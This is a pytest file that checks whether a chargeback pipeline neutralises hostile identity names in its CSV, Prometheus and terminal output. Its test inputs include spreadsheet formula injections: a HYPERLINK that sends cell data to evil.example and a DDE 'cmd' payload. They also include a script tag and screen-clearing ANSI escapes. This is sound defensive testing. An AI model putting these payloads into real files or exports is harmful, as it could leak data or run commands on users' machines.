"""Hostile identity names through Dagster into every output (issue #7).

The demo's PostgreSQL tenant (generic_metrics_only, static identities) is given identity
ids carrying spreadsheet formulas, HTML, ANSI escapes, newlines, quotes, commas and
unicode, and one day is run with ``chargeback run`` in process. Then:

- the CSV reads back (csv module and pandas) to exactly the stored identity, with
  OWASP formula triggers prefixed by ``'``, and its amounts still sum to the day;
- both Prometheus files pass ``promtool`` and carry the labels escaped;
- the terminal output holds no raw control character: the CLI escapes them.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import shutil
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from chargeback_pipeline.cli import main
from chargeback_pipeline.emitters.csv_emitter import FORMULA_TRIGGERS
from chargeback_pipeline.loader import clear_discovery_cache
from chargeback_pipeline.terminal import escape_controls
from tests.conftest import DEMO_CONFIG, FROZEN_NOW
from tests.prometheus_support import require_binary

DAY = "2026-03-05"
PG_DAY_TOTAL = Decimal("38.1216")  # (3 × 0.416 + 0.3194 + 0.021) × 24 h
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\tleading-tab",
    "\rleading-cr",
    "<script>alert('x')</script>",
    "\x1b[31mred\x1b[0m\x1b[2J",
    "two\nlines",
    'quote"d, with comma; and semicolon',
    "back\\slash",
    "ünï 😀 שלום \u202eevil",
]


def spreadsheet_text(value: str) -> str:
    """What the CSV cell must hold: OWASP's leading quote before a formula trigger."""
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str, int]:
    """The demo directory after one day of ``postgres-prod`` with hostile identities."""
    workdir = tmp_path_factory.mktemp("hostile-identities") / "demo"
    shutil.copytree(DEMO_CONFIG.parent, workdir, ignore=shutil.ignore_patterns("data", "out"))
    doc = yaml.safe_load(DEMO_CONFIG.read_text(encoding="utf-8"))
    identity_source = doc["tenants"]["postgres-prod"]["plugin_settings"]["identity_source"]
    identity_source["principal_to_team"] = {}
    identity_source["static_identities"] = [
        {"identity_id": p, "identity_type": "service_account", "display_name": p, "team": p} for p in PAYLOADS
    ]
    config = workdir / "config.yaml"
    config.write_text(yaml.safe_dump(doc, allow_unicode=True), encoding="utf-8")
    monkeypatch = pytest.MonkeyPatch()
    monkeypatch.setenv("CHARGEBACK_NOW", FROZEN_NOW)
    for name in ("CHARGEBACK_CONFIG", "CHARGEBACK_ENV_FILE", "DAGSTER_HOME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(workdir)
    clear_discovery_cache()
    out = io.StringIO()
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
            code = main(
                [
                    "run",
                    "--config",
                    str(config),
                    "--tenant=postgres-prod",
                    f"--start={DAY}",
                    f"--end={DAY}",
                    "-v",
                ]
            )
            # show-config and check-config print the identities back (JSON and text).
            main(["show-config", str(config)])
            main(["check-config", str(config)])
    finally:
        monkeypatch.undo()
        clear_discovery_cache()
    return workdir, out.getvalue(), code


@pytest.mark.outcome("identity-csv-injection")
def test_csv_reads_back_to_the_identities_with_formulas_neutralised(
    hostile_run: tuple[Path, str, int],
) -> None:
    workdir, output, code = hostile_run
    assert code == 0, output
    path = workdir / "out" / "csv" / "postgres-prod" / f"{DAY}.csv"
    with path.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert {r["identity_id"] for r in rows} == {spreadsheet_text(p) for p in PAYLOADS}
    for row in rows:  # no cell a spreadsheet would evaluate
        assert not any(cell.startswith(FORMULA_TRIGGERS) for name, cell in row.items() if name != "amount")
    assert sum(Decimal(r["amount"]) for r in rows) == PG_DAY_TOTAL
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert sorted(frame["identity_id"]) == sorted(r["identity_id"] for r in rows)
    assert len(frame) == len(rows) == 3 * len(PAYLOADS)  # three cost types, split evenly


@pytest.mark.outcome("identity-html")
def test_html_and_quotes_are_plain_text_in_csv_and_prometheus(hostile_run: tuple[Path, str, int]) -> None:
    workdir, _, _ = hostile_run
    text = (workdir / "out" / "csv" / "postgres-prod" / f"{DAY}.csv").read_text(encoding="utf-8")
    assert "<script>alert('x')</script>" in text  # data, not markup: CSV does not escape HTML
    assert '"quote""d, with comma; and semicolon"' in text  # RFC 4180 quoting
    metrics = (workdir / "out" / "metrics" / "acme-postgres.om").read_bytes().decode("utf-8")
    assert "identity_id=\"<script>alert('x')</script>\"" in metrics
    assert 'quote\\"d, with comma; and semicolon' in metrics
    assert "back\\\\slash" in metrics and "two\\nlines" in metrics


@pytest.mark.outcome("identity-html")
@pytest.mark.parametrize("name", ["acme-postgres.prom", "acme-postgres.om"])
def test_prometheus_files_with_hostile_labels_pass_promtool(
    hostile_run: tuple[Path, str, int], name: str, tmp_path: Path
) -> None:
    workdir, _, _ = hostile_run
    path = workdir / "out" / "metrics" / name
    promtool = require_binary("promtool")
    # Bytes, not text: Python's universal newlines would turn the label's raw CR into LF.
    text = path.read_bytes().decode("utf-8")
    if name.endswith(".prom"):
        command = [promtool, "check", "metrics"]
        done = subprocess.run(command, input=path.read_bytes(), capture_output=True)
        assert (done.returncode, done.stdout, done.stderr) == (0, b"", b"")
    else:
        command = [promtool, "tsdb", "create-blocks-from", "openmetrics", str(path), str(tmp_path / "tsdb")]
        done = subprocess.run(command, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
        assert " 52 " in done.stdout  # every sample loaded: 12 identities x 3 costs + 12 + 3 + 1
    for payload in PAYLOADS:
        escaped = payload.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
        assert f'"{escaped}"' in text, payload


@pytest.mark.outcome("identity-ansi")
def test_the_terminal_never_receives_a_raw_control_character(hostile_run: tuple[Path, str, int]) -> None:
    _, output, _ = hostile_run
    assert "\x1b" not in output and "\r" not in output and "\u202e" not in output
    assert "\\x1b[31mred" in output or "\\u001b[31mred" in output  # shown, visibly escaped


@pytest.mark.outcome("identity-ansi")
def test_escape_controls_shows_every_control_character_and_keeps_layout() -> None:
    assert (
        escape_controls("a\x1b[2Jb\r\x00\x7f\x9b\u202e\u2066")
        == "a\\x1b[2Jb\\x0d\\x00\\x7f\\x9b\\u202e\\u2066"
    )
    assert escape_controls("line\n\tindented ünï 😀 שלום") == "line\n\tindented ünï 😀 שלום"


@pytest.mark.outcome("identity-ansi")
def test_an_ansi_tenant_name_in_a_config_error_is_printed_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "config.yaml"
    config.write_text('tenants:\n  "\\e[2Jx":\n    ecosystem: generic_metrics_only\n    tenant_id: x\n')
    assert main(["validate-config", str(config)]) == 1
    out = capsys.readouterr().out
    pattern = "^[A-Za-z0-9][A-Za-z0-9_-]{0,62}$"
    assert out == f"{config}: tenant '\\x1b[2Jx': invalid tenant name; it must match {pattern}\n"


CODE_POINTS = [*range(0x00, 0x20), *range(0x7F, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A)]
CONTROLS = {chr(c) for c in [*CODE_POINTS, *range(0xD800, 0xE000)]}  # lone surrogates too


@pytest.mark.outcome("identity-ansi")
@settings(max_examples=200, derandomize=True, deadline=None)
@given(text=st.text(alphabet=st.characters(codec=None, exclude_categories=())))
def test_escaped_text_never_holds_a_control_character_but_newlines_and_tabs(text: str) -> None:
    shown = escape_controls(text)
    assert not (set(shown) & (CONTROLS - {"\n", "\t"}))
    assert shown.count("\n") == text.count("\n") and shown.count("\t") == text.count("\t")
    if not set(text) & CONTROLS:
        assert shown == text  # ordinary text, unicode included, is untouched


@pytest.mark.outcome("identity-ansi")
def test_undecodable_and_ansi_bytes_in_argv_are_printed_escaped_by_a_real_process(tmp_path: Path) -> None:
    """A byte that is not UTF-8 reaches Python as a lone surrogate: shown, never a crash in print."""
    shutil.copytree(DEMO_CONFIG.parent, tmp_path / "demo", ignore=shutil.ignore_patterns("data", "out"))
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "chargeback_pipeline.cli",
            "run",
            b"--tenant=\xff\x1b[2J",
            "--config=config.yaml",
        ],
        cwd=tmp_path / "demo",
        env={**os.environ, "CHARGEBACK_NOW": FROZEN_NOW},
        capture_output=True,
        timeout=300,
    )
    assert done.returncode == 1
    assert done.stderr.startswith(b"error: unknown tenant '\\udcff\\x1b[2J'; configured: confluent-cloud, ")
    assert b"\x1b" not in done.stdout + done.stderr and b"Traceback" not in done.stderr
